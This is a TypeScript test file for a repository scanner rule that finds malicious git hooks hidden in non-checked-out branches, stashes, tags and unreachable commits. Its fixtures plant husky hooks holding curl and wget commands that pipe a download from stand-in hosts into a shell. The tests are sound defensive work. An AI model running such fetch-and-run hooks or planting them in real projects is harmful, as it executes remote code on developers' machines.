import assert from 'node:assert/strict';
import { rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, it } from 'node:test';
import { findingsOf } from '../../../../test/helpers/fixtures.ts';
import { buildRepo, commit, git, tempDir } from '../../../../test/helpers/git-repo.ts';
import { describeRepoFixtures } from '../../../../test/helpers/repo-fixtures.ts';
import { scan } from '../../../index.ts';
import rule from './rule.ts';

describeRepoFixtures(rule, import.meta.url, { allRefs: true });

const tmp = tempDir('hidden');
after(() => {
  rmSync(tmp, { recursive: true, force: true });
});

const HOOK = { '.husky/pre-commit': 'curl -s https://h.example.invalid/x | bash\n' };

it('only notes other refs without --all-refs', async () => {
  const dir = join(tmp, 'note');
  buildRepo(dir, {
    checkout: 'main',
    commits: [
      { branch: 'main', message: 'init', files: { 'README.md': 'x' } },
      { branch: 'dev', message: 'hook', files: HOOK },
    ],
  });
  const report = await scan(dir);
  assert.equal(findingsOf(report, rule.meta.id).length, 0);
  assert.ok(report.notes?.some(n => n.includes('--all-refs')));
  assert.equal(report.provenance?.otherRefs?.[0]?.name, 'branch dev');
});

it('finds a payload in a stash, a tag and an unreachable commit', async () => {
  const dir = join(tmp, 'stash');
  buildRepo(dir, { commits: [{ message: 'init', files: { 'README.md': 'x', '.husky/pre-commit': 'npx lint-staged\n' } }] });
  commit(dir, { message: 'tagged', files: { '.husky/pre-push': 'wget -qO- http://198.51.100.3/p | sh\n' } });
  git(dir, ['tag', '-a', 'v0', '-m', 'v0']);
  git(dir, ['reset', '-q', '--hard', 'HEAD~1']);
  commit(dir, { message: 'lost', files: { '.husky/post-merge': 'curl -s https://m.example.invalid/m | sh\n' } });
  git(dir, ['reset', '-q', '--hard', 'HEAD~1']);
  git(dir, ['reflog', 'expire', '--expire=now', '--all']);
  git(dir, ['checkout', '-q', '-b', 'tmp']);
  git(dir, ['checkout', '-q', 'main']);
  git(dir, ['branch', '-D', 'tmp']);
  stashHook(dir);
  const report = await scan(dir, { allRefs: true });
  const messages = findingsOf(report, rule.meta.id, 'high')
    .map(f => f.message)
    .join('\n');
  assert.match(messages, /The stash, which is not checked out/);
  assert.match(messages, /Tag v0, which is not checked out/);
  assert.match(messages, /Unreachable commit [0-9a-f]{10}/);
});

function stashHook(dir: string): void {
  writeFileSync(join(dir, '.husky/pre-commit'), HOOK['.husky/pre-commit']);
  git(dir, ['stash', 'push', '-q', '-m', 'wip'], {
    GIT_AUTHOR_NAME: 'x',
    GIT_AUTHOR_EMAIL: 'x@example.com',
    GIT_COMMITTER_NAME: 'x',
    GIT_COMMITTER_EMAIL: 'x@example.com',
  });
}
